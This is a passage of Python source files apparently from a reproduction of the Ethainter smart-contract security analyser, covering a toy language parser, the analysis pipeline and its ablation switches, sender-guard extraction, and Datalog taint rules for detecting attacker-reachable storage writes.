instruction list.

A small text syntax is provided for tests and examples::

    v = CONST 42
    x = INPUT
    h = HASH x
    p = EQ sender z
    g = GUARD p x
    SSTORE x v
    SLOAD v y
    SINK y
    CALL c
    STATICCALL d
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Union

SENDER = "sender"


@dataclass(frozen=True)
class Const:
    """``x := CONST(v)``"""

    x: str
    value: int


@dataclass(frozen=True)
class Input:
    """``x := INPUT()`` — a taint source."""

    x: str


@dataclass(frozen=True)
class Op:
    """``x := OP(y, z)`` — any operation; ``op`` distinguishes equality
    (``"EQ"``), which the guard rules inspect."""

    x: str
    y: str
    z: Optional[str] = None
    op: str = "OP"

    @property
    def is_equality(self) -> bool:
        return self.op == "EQ"


@dataclass(frozen=True)
class Hash:
    """``x := HASH(y)``"""

    x: str
    y: str


@dataclass(frozen=True)
class Guard:
    """``x := GUARD(p, y)`` — x gets y if predicate variable p sanitizes."""

    x: str
    p: str
    y: str


@dataclass(frozen=True)
class SStore:
    """``SSTORE(f, t)`` — store value f at storage address t."""

    f: str
    t: str


@dataclass(frozen=True)
class SLoad:
    """``SLOAD(f, t)`` — load storage address f into variable t."""

    f: str
    t: str


@dataclass(frozen=True)
class Sink:
    """``SINK(x)`` — sensitive use of x."""

    x: str


@dataclass(frozen=True)
class Call:
    """``CALL(c)`` — external call named c.

    ``static=True`` models a read-only (STATICCALL-style) call: the callee
    cannot write state, so it can never re-enter meaningfully and the
    reentrancy stratum ignores it.
    """

    ident: str
    static: bool = False


Instruction = Union[Const, Input, Op, Hash, Guard, SStore, SLoad, Sink, Call]


@dataclass
class AbstractProgram:
    """A straight-line program over the abstract language.

    The language is flow-insensitive by design (the paper's relations hold
    globally), so instruction order carries no meaning for the taint
    analysis; only the reentrancy stratum reads straight-line order
    around ``CALL`` instructions.
    """

    instructions: List[Instruction] = field(default_factory=list)

    def variables(self) -> List[str]:
        seen: List[str] = []

        def note(name: Optional[str]) -> None:
            if name is not None and name not in seen:
                seen.append(name)

        for ins in self.instructions:
            for attr in ("x", "y", "z", "p", "f", "t"):
                note(getattr(ins, attr, None))
        return seen


class AbstractParseError(Exception):
    """Malformed abstract-language text."""


def parse_abstract(text: str) -> AbstractProgram:
    """Parse the text syntax shown in the module docstring."""
    program = AbstractProgram()
    for line_number, raw in enumerate(text.splitlines(), start=1):
        line = raw.split("#", 1)[0].strip()
        if not line:
            continue
        tokens = line.replace("=", " = ").split()
        try:
            if tokens[0] in ("SSTORE", "SLOAD", "SINK", "CALL", "STATICCALL"):
                if tokens[0] == "SSTORE":
                    program.instructions.append(SStore(f=tokens[1], t=tokens[2]))
                elif tokens[0] == "SLOAD":
                    program.instructions.append(SLoad(f=tokens[1], t=tokens[2]))
                elif tokens[0] == "CALL":
                    program.instructions.append(Call(ident=tokens[1]))
                elif tokens[0] == "STATICCALL":
                    program.instructions.append(Call(ident=tokens[1], static=True))
                else:
                    program.instructions.append(Sink(x=tokens[1]))
                continue
            if tokens[1] != "=":
                raise AbstractParseError("expected '=' on line %d" % line_number)
            target, kind = tokens[0], tokens[2]
            rest = tokens[3:]
            if kind == "CONST":
                program.instructions.append(Const(x=target, value=int(rest[0], 0)))
            elif kind == "INPUT":
                program.instructions.append(Input(x=target))
            elif kind == "HASH":
                program.instructions.append(Hash(x=target, y=rest[0]))
            elif kind == "GUARD":
                program.instructions.append(Guard(x=target, p=rest[0], y=rest[1]))
            elif kind == "EQ":
                program.instructions.append(
                    Op(x=target, y=rest[0], z=rest[1], op="EQ")
                )
            elif kind == "OP":
                z = rest[1] if len(rest) > 1 else None
                program.instructions.append(Op(x=target, y=rest[0], z=z))
            else:
                raise AbstractParseError(
                    "unknown instruction %r on line %d" % (kind, line_number)
                )
        except (IndexError, ValueError) as error:
            raise AbstractParseError(
                "malformed line %d: %r (%s)" % (line_number, line, error)
            ) from None
    return program
