"""The Ethainter analysis facade.

:class:`EthainterAnalysis` drives the staged pipeline in
:mod:`repro.core.pipeline`:

    bytecode --lift--> TAC --extract--> facts --static strata--> storage/guard
    models --fixpoint--> taint --detect--> findings

with a per-contract wall-clock budget (the paper uses a combined 120 s
decompile+analyze cutoff; §6) enforced cooperatively inside the fixpoints,
the Figure 8 ablation switches on :class:`AnalysisConfig`, and an optional
shared :class:`~repro.core.pipeline.ArtifactCache` that lets ablation
sweeps re-use the configuration-independent lift+extract prefix.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.facts import ContractFacts
from repro.core.guards import GuardModel
from repro.core.ordering import CallOrderModel
from repro.core.pipeline import ArtifactCache, StageTiming, run_pipeline
from repro.core.storage_model import StorageModel
from repro.core.taint import TaintOptions, TaintResult
from repro.core.vulnerabilities import Finding, VULNERABILITY_KINDS
from repro.ir.tac import TACProgram


@dataclass
class AnalysisConfig:
    """Analysis switches; defaults reproduce the paper's tuned design.

    The three ablation flags correspond to Figure 8:

    * ``model_storage_taint=False`` — 8a "No Storage Modeling" (completeness
      drops: composite, multi-transaction chains are lost),
    * ``model_guards=False`` — 8b "No Guard Modeling" (precision collapses:
      every owner-guarded operation looks attacker-reachable),
    * ``conservative_storage=True`` — 8c "Conservative Storage Modeling"
      (precision drops: unknown-address stores smear taint over all slots).

    ``value_analysis`` enables the bounded value-set stratum
    (:mod:`repro.ir.value_analysis`): computed storage indices resolve to
    small candidate sets, shrinking the StorageWrite-2 blast radius and
    recovering mapping accesses whose base slot is not directly constant.
    Off by default so the battery can measure its precision delta.
    """

    model_guards: bool = True
    model_storage_taint: bool = True
    conservative_storage: bool = False
    value_analysis: bool = False
    timeout_seconds: float = 120.0
    max_lift_states: int = 20_000
    # Which fixpoint engine runs the taint rules: the tuned Python fixpoint
    # (default), the declarative Datalog rules on compiled join plans
    # ("datalog"; paper-faithful, cross-checked equal in the test suite),
    # the same plans over columnar storage with batch joins
    # ("datalog-columnar"; byte-identical fixpoints, faster on large EDBs),
    # or the uncompiled Datalog interpreter ("datalog-legacy"; equivalence
    # and benchmark baseline only).  The Datalog paths do not reconstruct
    # per-variable witnesses, so warning detail text is terser.  The valid
    # set lives in :data:`repro.core.pipeline.ENGINE_CHOICES`.
    engine: str = "python"
    # Optional restriction of reported warnings to a subset of
    # :data:`repro.core.vulnerabilities.VULNERABILITY_KINDS` (the CLI
    # ``--kinds`` flag).  ``None`` reports every family; unknown names
    # raise :class:`repro.core.vulnerabilities.UnknownKindError` before
    # any stage runs.
    kinds: Optional[Tuple[str, ...]] = None

    def taint_options(self) -> TaintOptions:
        return TaintOptions(
            model_guards=self.model_guards,
            model_storage_taint=self.model_storage_taint,
            conservative_storage=self.conservative_storage,
        )


@dataclass
class PrecisionCounters:
    """Resolution statistics for one contract (``--profile`` / JSON report).

    ``lint_findings`` counts the findings the Datalog linter reports over
    the *shipped* rule programs this build analyzes with — a build-level
    constant surfaced per result so downstream reports carry it.
    """

    value_tracked_vars: int = 0  # vars with a bounded value set
    resolved_store_indices: int = 0  # constant or value-set bounded
    unresolved_store_indices: int = 0
    resolved_load_indices: int = 0
    unresolved_load_indices: int = 0
    mapping_accesses: int = 0
    value_resolved_mappings: int = 0  # recovered only via value analysis
    lint_findings: int = 0

    def as_dict(self) -> Dict[str, int]:
        return {
            "value_tracked_vars": self.value_tracked_vars,
            "resolved_store_indices": self.resolved_store_indices,
            "unresolved_store_indices": self.unresolved_store_indices,
            "resolved_load_indices": self.resolved_load_indices,
            "unresolved_load_indices": self.unresolved_load_indices,
            "mapping_accesses": self.mapping_accesses,
            "value_resolved_mappings": self.value_resolved_mappings,
            "lint_findings": self.lint_findings,
        }


@dataclass
class Warning:
    """User-facing warning: a finding plus contract context."""

    kind: str
    pc: int
    statement: str
    detail: str
    slot: Optional[int] = None

    @classmethod
    def from_finding(cls, finding: Finding) -> "Warning":
        return cls(
            kind=finding.kind,
            pc=finding.pc,
            statement=finding.statement,
            detail=finding.detail,
            slot=finding.slot,
        )


@dataclass
class AnalysisResult:
    """Everything produced for one contract.

    Terminal states are explicit and never overlap:

    * ``error == "timeout"`` — a stage was *aborted* by the budget; there
      are no warnings (``deadline_exceeded`` is also True).
    * ``error is None`` and ``deadline_exceeded`` — the run *completed*
      (warnings are valid) but crossed the budget late; it must be counted
      as analyzed, not errored.
    * ``error == "lift-error: ..."`` — decompilation failed.
    """

    warnings: List[Warning] = field(default_factory=list)
    error: Optional[str] = None  # "timeout" | "lift-error: ..." | None
    deadline_exceeded: bool = False
    elapsed_seconds: float = 0.0
    block_count: int = 0
    statement_count: int = 0
    stage_timings: List[StageTiming] = field(default_factory=list)
    cache_hits: int = 0
    cache_misses: int = 0
    precision: PrecisionCounters = field(default_factory=PrecisionCounters)
    # Datalog EngineStats.as_dict() when a datalog engine ran the taint
    # stage (per-rule derivation counts, join/index probes, iterations).
    datalog_stats: Optional[Dict] = None
    taint: Optional[TaintResult] = None
    facts: Optional[ContractFacts] = None
    guards: Optional[GuardModel] = None
    storage: Optional[StorageModel] = None
    ordering: Optional[CallOrderModel] = None
    program: Optional[TACProgram] = None

    @property
    def timed_out(self) -> bool:
        """True when the budget *aborted* the run (late finishes are not
        timeouts: their warnings are valid and they count as analyzed)."""
        return self.error == "timeout"

    @property
    def flagged(self) -> bool:
        return bool(self.warnings)

    def stage_seconds(self) -> Dict[str, float]:
        """Per-stage wall-clock seconds (the ``--profile`` breakdown)."""
        return {timing.name: timing.seconds for timing in self.stage_timings}

    def kinds(self) -> Dict[str, int]:
        counts = {kind: 0 for kind in VULNERABILITY_KINDS}
        for warning in self.warnings:
            counts[warning.kind] = counts.get(warning.kind, 0) + 1
        return counts

    def has(self, kind: str) -> bool:
        return any(warning.kind == kind for warning in self.warnings)


class EthainterAnalysis:
    """Analyzes one contract's runtime bytecode.

    Passing a shared :class:`ArtifactCache` makes repeated analyses of the
    same bytecode (and ablation sweeps over it) re-use every stage output
    whose configuration fingerprint matches.
    """

    def __init__(
        self,
        config: Optional[AnalysisConfig] = None,
        cache: Optional[ArtifactCache] = None,
        warm: Optional[object] = None,
    ):
        self.config = config or AnalysisConfig()
        self.cache = cache
        # Optional WarmEngineCache shared across analyses so the datalog
        # tiers repair a live fixpoint instead of recomputing (Fig. 8
        # ablation batteries, repeated api.analyze calls).
        self.warm = warm

    def analyze(self, runtime_bytecode: bytes) -> AnalysisResult:
        """Run the staged pipeline (lift, model, fixpoint, detect)."""
        outcome = run_pipeline(
            runtime_bytecode, self.config, cache=self.cache, warm=self.warm
        )
        result = AnalysisResult(
            error=outcome.error,
            deadline_exceeded=outcome.deadline_exceeded,
            elapsed_seconds=outcome.elapsed_seconds,
            stage_timings=outcome.timings,
            cache_hits=outcome.cache_hits,
            cache_misses=outcome.cache_misses,
        )
        artifacts = outcome.artifacts
        program = artifacts.get("lift")
        if program is not None:
            result.program = program
            result.block_count = len(program.blocks)
            result.statement_count = sum(
                len(block.statements) for block in program.blocks.values()
            )
        # Downstream consumers see the (possibly) value-enriched facts.
        result.facts = artifacts.get("values", artifacts.get("facts"))
        result.storage = artifacts.get("storage")
        result.guards = artifacts.get("guards")
        result.ordering = artifacts.get("ordering")
        result.taint = artifacts.get("taint")
        result.datalog_stats = getattr(result.taint, "engine_stats", None)
        findings = artifacts.get("detect")
        if findings is not None:
            result.warnings = [
                Warning.from_finding(finding) for finding in findings
            ]
        _fill_precision(result)
        return result


def _fill_precision(result: AnalysisResult) -> None:
    """Populate :class:`PrecisionCounters` from the finished artifacts."""
    counters = result.precision
    facts, storage = result.facts, result.storage
    if facts is not None:
        counters.value_tracked_vars = len(facts.variable_values)
    if storage is not None:
        for store in storage.facts.storage_stores:
            if (
                store.const_slot is not None
                or store.statement.ident in storage.resolved_store_slots
            ):
                counters.resolved_store_indices += 1
            else:
                counters.unresolved_store_indices += 1
        for load in storage.facts.storage_loads:
            if (
                load.const_slot is not None
                or load.statement.ident in storage.resolved_load_slots
            ):
                counters.resolved_load_indices += 1
            else:
                counters.unresolved_load_indices += 1
        counters.mapping_accesses = len(storage.mapping_accesses)
        counters.value_resolved_mappings = storage.value_resolved_mappings
    from repro.datalog.lint import shipped_finding_count

    counters.lint_findings = shipped_finding_count()


def analyze_bytecode(
    runtime_bytecode: bytes,
    config: Optional[AnalysisConfig] = None,
    cache: Optional[ArtifactCache] = None,
) -> AnalysisResult:
    """Deprecated deep-import shim for :func:`repro.api.analyze`.

    Kept so historical callers (and the test suite) continue to work; it
    warns once per process and delegates to :class:`EthainterAnalysis`,
    which — like :mod:`repro.api` — is the supported surface.
    """
    from repro._compat import warn_deprecated_entry

    warn_deprecated_entry(
        "repro.core.analysis.analyze_bytecode", "repro.api.analyze"
    )
    return EthainterAnalysis(config, cache=cache).analyze(runtime_bytecode)
