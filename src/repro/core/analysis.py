"""The Ethainter analysis pipeline.

:class:`EthainterAnalysis` ties the stages together:

    bytecode --lift--> TAC --extract--> facts --static strata--> storage/guard
    models --fixpoint--> taint --detect--> findings

with a per-contract wall-clock budget (the paper uses a combined 120 s
decompile+analyze cutoff; §6) and the Figure 8 ablation switches on
:class:`AnalysisConfig`.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.core.facts import ContractFacts, extract_facts
from repro.core.guards import GuardModel, build_guard_model
from repro.core.storage_model import StorageModel, build_storage_model
from repro.core.taint import TaintAnalysis, TaintOptions, TaintResult
from repro.core.vulnerabilities import Finding, VULNERABILITY_KINDS, detect
from repro.decompiler import LiftError, lift
from repro.ir.tac import TACProgram


@dataclass
class AnalysisConfig:
    """Analysis switches; defaults reproduce the paper's tuned design.

    The three ablation flags correspond to Figure 8:

    * ``model_storage_taint=False`` — 8a "No Storage Modeling" (completeness
      drops: composite, multi-transaction chains are lost),
    * ``model_guards=False`` — 8b "No Guard Modeling" (precision collapses:
      every owner-guarded operation looks attacker-reachable),
    * ``conservative_storage=True`` — 8c "Conservative Storage Modeling"
      (precision drops: unknown-address stores smear taint over all slots).
    """

    model_guards: bool = True
    model_storage_taint: bool = True
    conservative_storage: bool = False
    timeout_seconds: float = 120.0
    max_lift_states: int = 20_000
    # Which fixpoint engine runs the taint rules: the tuned Python fixpoint
    # (default) or the declarative Datalog rules (paper-faithful; slower;
    # cross-checked equal in the test suite).  The Datalog path does not
    # reconstruct per-variable witnesses, so warning detail text is terser.
    engine: str = "python"  # "python" | "datalog"

    def taint_options(self) -> TaintOptions:
        return TaintOptions(
            model_guards=self.model_guards,
            model_storage_taint=self.model_storage_taint,
            conservative_storage=self.conservative_storage,
        )


@dataclass
class Warning:
    """User-facing warning: a finding plus contract context."""

    kind: str
    pc: int
    statement: str
    detail: str
    slot: Optional[int] = None

    @classmethod
    def from_finding(cls, finding: Finding) -> "Warning":
        return cls(
            kind=finding.kind,
            pc=finding.pc,
            statement=finding.statement,
            detail=finding.detail,
            slot=finding.slot,
        )


@dataclass
class AnalysisResult:
    """Everything produced for one contract."""

    warnings: List[Warning] = field(default_factory=list)
    error: Optional[str] = None  # "timeout" | "lift-error: ..." | None
    elapsed_seconds: float = 0.0
    block_count: int = 0
    statement_count: int = 0
    taint: Optional[TaintResult] = None
    facts: Optional[ContractFacts] = None
    guards: Optional[GuardModel] = None
    storage: Optional[StorageModel] = None
    program: Optional[TACProgram] = None

    @property
    def timed_out(self) -> bool:
        return self.error == "timeout"

    @property
    def flagged(self) -> bool:
        return bool(self.warnings)

    def kinds(self) -> Dict[str, int]:
        counts = {kind: 0 for kind in VULNERABILITY_KINDS}
        for warning in self.warnings:
            counts[warning.kind] = counts.get(warning.kind, 0) + 1
        return counts

    def has(self, kind: str) -> bool:
        return any(warning.kind == kind for warning in self.warnings)


class EthainterAnalysis:
    """Analyzes one contract's runtime bytecode."""

    def __init__(self, config: Optional[AnalysisConfig] = None):
        self.config = config or AnalysisConfig()

    def analyze(self, runtime_bytecode: bytes) -> AnalysisResult:
        """Run the full pipeline (lift, model, fixpoint, detect)."""
        started = time.monotonic()
        result = AnalysisResult()
        deadline = started + self.config.timeout_seconds

        def out_of_time() -> bool:
            return time.monotonic() > deadline

        try:
            program = lift(runtime_bytecode, max_states=self.config.max_lift_states)
        except LiftError as error:
            result.error = "lift-error: %s" % error
            result.elapsed_seconds = time.monotonic() - started
            return result

        result.program = program
        result.block_count = len(program.blocks)
        result.statement_count = sum(
            len(block.statements) for block in program.blocks.values()
        )
        if out_of_time():
            result.error = "timeout"
            result.elapsed_seconds = time.monotonic() - started
            return result

        facts = extract_facts(program)
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        if out_of_time():
            result.error = "timeout"
            result.elapsed_seconds = time.monotonic() - started
            return result

        if self.config.engine == "datalog":
            from repro.core.bytecode_datalog import analyze_with_datalog

            taint = analyze_with_datalog(
                facts=facts,
                storage=storage,
                guards=guards,
                options=self.config.taint_options(),
            )
        else:
            taint = TaintAnalysis(
                facts, storage, guards, self.config.taint_options()
            ).run()
        findings = detect(facts, storage, guards, taint)

        result.facts = facts
        result.storage = storage
        result.guards = guards
        result.taint = taint
        result.warnings = [Warning.from_finding(finding) for finding in findings]
        result.elapsed_seconds = time.monotonic() - started
        if out_of_time():
            result.error = "timeout"
        return result


def analyze_bytecode(
    runtime_bytecode: bytes, config: Optional[AnalysisConfig] = None
) -> AnalysisResult:
    """One-shot convenience wrapper around :class:`EthainterAnalysis`."""
    return EthainterAnalysis(config).analyze(runtime_bytecode)
