"""Guard extraction: the ``StaticallyGuardedStatement`` relation of Figure 5.

A conditional branch guards the statements *dominated* by one of its
successors: to execute them, the branch condition must have had the
corresponding truth value.  This module:

1. walks every ``JUMPI``, normalizing the condition through ``ISZERO``
   chains to a base variable plus a polarity per branch side,
2. decomposes conjunctions (``AND``) into multiple guard atoms,
3. classifies each positive-polarity guard atom as *sender-scrutinizing* or
   not — folding the paper's Uguard-NDS rule into the static stratum: a
   guard that does not compare or look up the caller cannot sanitize, so it
   never appears in ``StaticallyGuardedStatement`` (its "protected"
   statements stay attacker-reachable),
4. assigns the guard to all statements in blocks dominated by the protected
   successor.

Guard kinds:

* ``EQ_SENDER`` — ``msg.sender == z``; carries the compared variable ``z``
  and its constant-slot aliases (feeding Uguard-T and the computed sinks of
  §4.5 — "tainted owner variable"),
* ``DS_LOOKUP`` — a truthiness check of a sender-keyed data-structure
  element, e.g. ``require(admins[msg.sender])``; carries the root mapping
  slot (compromised when the attacker can write arbitrary elements of that
  mapping).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.core.facts import ContractFacts
from repro.core.storage_model import StorageModel
from repro.ir.dominators import compute_dominators
from repro.ir.tac import TACStatement

EQ_SENDER = "EQ_SENDER"
DS_LOOKUP = "DS_LOOKUP"


@dataclass(frozen=True)
class Guard:
    """One sender-scrutinizing guard atom."""

    ident: str
    kind: str  # EQ_SENDER | DS_LOOKUP
    base_var: str  # the (normalized) condition variable
    compared_var: Optional[str] = None  # EQ_SENDER: the non-sender operand
    compared_slots: Tuple[int, ...] = ()  # EQ_SENDER: constant-slot aliases of z
    mapping_slot: Optional[int] = None  # DS_LOOKUP: root mapping base slot


@dataclass
class GuardModel:
    """Guards per statement, plus the computed owner-variable sink slots."""

    guards: List[Guard] = field(default_factory=list)
    guarded_statements: Dict[str, Set[str]] = field(default_factory=dict)  # stmt -> guard ids
    guard_by_id: Dict[str, Guard] = field(default_factory=dict)
    sink_slots: Set[int] = field(default_factory=set)

    def guards_of(self, statement_id: str) -> List[Guard]:
        return [
            self.guard_by_id[guard_id]
            for guard_id in self.guarded_statements.get(statement_id, ())
        ]

    def is_guarded(self, statement_id: str) -> bool:
        return bool(self.guarded_statements.get(statement_id))


def _normalize(
    facts: ContractFacts, variable: str, polarity: bool
) -> Tuple[str, bool]:
    """Strip ISZERO chains: returns the base variable and final polarity."""
    current, current_polarity = variable, polarity
    for _ in range(64):  # chains are short; bound for safety
        defining = facts.def_stmt.get(current)
        if defining is None or defining.opcode != "ISZERO":
            return current, current_polarity
        current = defining.uses[0]
        current_polarity = not current_polarity
    return current, current_polarity


def _atoms(facts: ContractFacts, variable: str, polarity: bool) -> List[Tuple[str, bool]]:
    """Decompose a condition into guard atoms.

    A positive conjunction (``AND``) yields one atom per conjunct.  ``OR`` is
    kept whole (the disjunction is treated as scrutinizing if any disjunct
    is — a precision-favoring choice, see module docstring).
    """
    base, base_polarity = _normalize(facts, variable, polarity)
    defining = facts.def_stmt.get(base)
    if base_polarity and defining is not None and defining.opcode == "AND":
        out: List[Tuple[str, bool]] = []
        for operand in defining.uses:
            out.extend(_atoms(facts, operand, True))
        return out
    return [(base, base_polarity)]


def _classify(
    facts: ContractFacts, model: StorageModel, base: str, guard_counter: List[int]
) -> Optional[Guard]:
    """Classify a positive guard atom; None if not sender-scrutinizing."""
    defining = facts.def_stmt.get(base)

    def fresh_ident() -> str:
        guard_counter[0] += 1
        return "g%d" % guard_counter[0]

    # Case 1: equality with a sender-derived operand.
    if defining is not None and defining.opcode == "EQ":
        left, right = defining.uses
        sender_side: Optional[str] = None
        other_side: Optional[str] = None
        if model.is_sender_derived(left):
            sender_side, other_side = left, right
        elif model.is_sender_derived(right):
            sender_side, other_side = right, left
        if sender_side is not None:
            slots: Set[int] = set()
            for source in model.copy_sources.get(other_side, {other_side}):
                slots.update(model.aliases_of(source))
                # Slots the value-analysis stratum resolved: a load whose
                # computed address is a singleton aliases that slot exactly
                # like a directly-constant load.
                slots.update(model.value_aliases_of(source))
            return Guard(
                ident=fresh_ident(),
                kind=EQ_SENDER,
                base_var=base,
                compared_var=other_side,
                compared_slots=tuple(sorted(slots)),
            )

    # Case 2: truthiness of a sender-keyed data-structure element, e.g.
    # require(admins[msg.sender]) — the loaded value itself is DS.
    if model.is_sender_derived(base):
        mapping_slot: Optional[int] = None
        for source in model.copy_sources.get(base, {base}):
            source_def = facts.def_stmt.get(source)
            if source_def is not None and source_def.opcode == "SLOAD":
                address_var = source_def.uses[0]
                for addr_source in model.copy_sources.get(address_var, {address_var}):
                    access = model.mapping_accesses.get(addr_source)
                    if access is not None:
                        mapping_slot = access.base_slot
                        break
            if mapping_slot is not None:
                break
        return Guard(
            ident=fresh_ident(),
            kind=DS_LOOKUP,
            base_var=base,
            mapping_slot=mapping_slot,
        )

    # Case 3: OR whose disjuncts include a scrutinizing guard.
    if defining is not None and defining.opcode == "OR":
        for operand in defining.uses:
            inner_base, inner_polarity = _normalize(facts, operand, True)
            if inner_polarity:
                inner = _classify(facts, model, inner_base, guard_counter)
                if inner is not None:
                    return inner
    return None


def build_guard_model(facts: ContractFacts, model: StorageModel) -> GuardModel:
    """Compute StaticallyGuardedStatement and the §4.5 sink slots."""
    guard_model = GuardModel()
    program = facts.program
    if not program.blocks:
        return guard_model

    successors = {ident: block.successors for ident, block in program.blocks.items()}
    dominators = compute_dominators(program.entry, successors)
    # Invert: dominated_by[s] = set of blocks s dominates.
    dominated_by: Dict[str, Set[str]] = {}
    for block_id, doms in dominators.items():
        for dominator in doms:
            dominated_by.setdefault(dominator, set()).add(block_id)

    guard_counter = [0]
    classified: Dict[Tuple[str, str], Optional[Guard]] = {}

    for stmt in facts.jumpis:
        block = program.blocks.get(stmt.block)
        if block is None:
            continue
        condition_var = stmt.uses[1]
        sides: List[Tuple[Optional[str], bool]] = [
            (block.taken_successor, True),
            (block.fallthrough_successor, False),
        ]
        for successor, polarity in sides:
            if successor is None or successor not in program.blocks:
                continue
            atoms = _atoms(facts, condition_var, polarity)
            side_guards: List[Guard] = []
            for base, atom_polarity in atoms:
                if not atom_polarity:
                    continue  # negative sender comparisons don't sanitize
                key = (base, "pos")
                if key not in classified:
                    classified[key] = _classify(facts, model, base, guard_counter)
                guard = classified[key]
                if guard is not None:
                    side_guards.append(guard)
            if not side_guards:
                continue
            protected_blocks = dominated_by.get(successor, set())
            for guard in side_guards:
                if guard.ident not in guard_model.guard_by_id:
                    guard_model.guard_by_id[guard.ident] = guard
                    guard_model.guards.append(guard)
                for block_id in protected_blocks:
                    for protected in program.blocks[block_id].statements:
                        guard_model.guarded_statements.setdefault(
                            protected.ident, set()
                        ).add(guard.ident)

    # Computed sinks (§4.5): slots compared against the sender in a guard
    # that actually protects at least one statement are "owner variables".
    active_guards = {
        guard_id
        for guard_ids in guard_model.guarded_statements.values()
        for guard_id in guard_ids
    }
    for guard in guard_model.guards:
        if guard.ident in active_guards and guard.kind == EQ_SENDER:
            guard_model.sink_slots.update(guard.compared_slots)
    return guard_model
