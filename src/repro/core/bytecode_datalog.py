"""The bytecode-level Ethainter analysis as Datalog rules (paper §5).

The paper's implementation is "several hundred declarative rules in the
Datalog language" executed by Soufflé.  :mod:`repro.core.taint` implements
the same logic as a hand-written Python fixpoint (the fast path used by the
benchmarks); this module states the rules declaratively on
:mod:`repro.datalog` — the Figure 5 skeleton, elaborated with the two taint
flavors and the guard-compromise machinery — and runs them on the engine.

``analyze_with_datalog`` produces a :class:`~repro.core.taint.TaintResult`
from the Datalog fixpoint; the test suite checks it coincides with the
Python fixpoint over the whole corpus and under every ablation.

Rule inventory (relations named after Figure 5 where they exist there):

EDB (extracted facts):
    Stmt(s)                       every TAC statement
    Infoflow(x, y, s)             one-step flow x -> y at statement s
    CALLDATALOAD(s, x)            taint source (Fig. 5 verbatim)
    StaticallyGuardedStatement(s, g)
    GuardComparesSlot(g, v)       EQ_SENDER guard g compares slot v
    GuardComparesVar(g, x)        ... and the compared variable
    GuardDsBase(g, x)             DS_LOOKUP guard's condition variable
    GuardDsMapping(g, b)          DS_LOOKUP guard's root mapping slot
    SStoreConst(s, v, x)          store x to constant slot v
    SStoreUnknown(s, a, x)        store through non-constant address a
    MappingStore(s, b, k)         store resolved to mapping b with key k
    SenderKey(k)                  k is sender-derived (DS)
    MappingConfined(a)            address a resolves to a mapping element
    SLoadConst(s, v, x)           load constant slot v into x
    KnownSlot(v)                  constant slots arising in the analysis
    ResolvedStore(s)              value analysis bounded store s's address
    ResolvedStoreSlot(s, v)       ... and v is one of its candidate slots

IDB:
    ReachableByAttacker(s), Guarded(s) [projection for negation],
    InputTaint(x), StorageTaint(x), TaintedStorage(v),
    WritableMapping(b), CompromisedGuard(g)
"""

from __future__ import annotations

from typing import List, Optional

from repro.core.facts import ContractFacts, extract_facts
from repro.core.guards import DS_LOOKUP, EQ_SENDER, GuardModel, build_guard_model
from repro.core.storage_model import StorageModel, build_storage_model, memory_var
from repro.core.taint import TaintOptions, TaintResult
from repro.datalog import Database, Engine, parse_program
from repro.decompiler import lift

# --------------------------------------------------------------------- rules

# Core mutual recursion (Fig. 5), flavored per the formal model (Fig. 3).
CORE_RULES = r"""
Guarded(s) :- StaticallyGuardedStatement(s, g).

// s is reachable if not guarded (Fig. 5) ...
ReachableByAttacker(s) :- Stmt(s), !Guarded(s).
// ... or if (any of) its guard(s) is compromised — tainted or bypassable.
ReachableByAttacker(s) :- StaticallyGuardedStatement(s, g), CompromisedGuard(g).

// Taint introduction: attacker calldata at attacker-executable statements.
InputTaint(x) :- CALLDATALOAD(s, x), ReachableByAttacker(s).

// Input taint propagates only through attacker-executable statements
// (Guard-2: the attacker's transaction reverts at an effective guard).
InputTaint(y) :- Infoflow(x, y, s), InputTaint(x), ReachableByAttacker(s).

// Storage taint propagates through every statement (Guard-1: the
// privileged caller executes guarded code over poisoned state).
StorageTaint(y) :- Infoflow(x, y, s), StorageTaint(x).

// StorageWrite-1: a tainted value stored to a constant slot.
TaintedStorage(v) :- SStoreConst(s, v, x), StorageTaint(x).
TaintedStorage(v) :- SStoreConst(s, v, x), InputTaint(x), ReachableByAttacker(s).

// StorageLoad: loads from tainted slots carry storage taint anywhere.
StorageTaint(x) :- SLoadConst(s, v, x), TaintedStorage(v).

// Guard compromise: Uguard-T (sender compared against a tainted slot) ...
CompromisedGuard(g) :- GuardComparesSlot(g, v), TaintedStorage(v).
CompromisedGuard(g) :- GuardComparesVar(g, x), InputTaint(x).
CompromisedGuard(g) :- GuardComparesVar(g, x), StorageTaint(x).
// ... or a sender-keyed lookup into an attacker-writable mapping.
CompromisedGuard(g) :- GuardDsMapping(g, b), WritableMapping(b).
CompromisedGuard(g) :- GuardDsBase(g, x), InputTaint(x).
CompromisedGuard(g) :- GuardDsBase(g, x), StorageTaint(x).

// A mapping is attacker-writable if a reachable store targets one of its
// elements with a key the attacker chooses (tainted) or is (the sender).
WritableMapping(b) :- MappingStore(s, b, k), StorageTaint(k), ReachableByAttacker(s).
WritableMapping(b) :- MappingStore(s, b, k), InputTaint(k), ReachableByAttacker(s).
WritableMapping(b) :- MappingStore(s, b, k), SenderKey(k), ReachableByAttacker(s).
"""

# StorageWrite-2 (the over-approximation): value- and address-tainted store
# through an address NOT confined to a mapping taints every known slot —
# unless the value-analysis stratum bounded the address (ResolvedStore), in
# which case only the candidate slots are tainted.  Four flavor
# combinations each way, input flavors requiring reachability.  With the
# stratum disabled both Resolved* relations are empty, so the first four
# rules degenerate to the original smear and the rest never fire.
WRITE2_RULES = r"""
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), StorageTaint(a),
                     !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), StorageTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), InputTaint(x), InputTaint(a),
                     ReachableByAttacker(s), !MappingConfined(a), !ResolvedStore(s), KnownSlot(v).
TaintedStorage(v) :- SStoreUnknown(s, a, x), StorageTaint(x), StorageTaint(a),
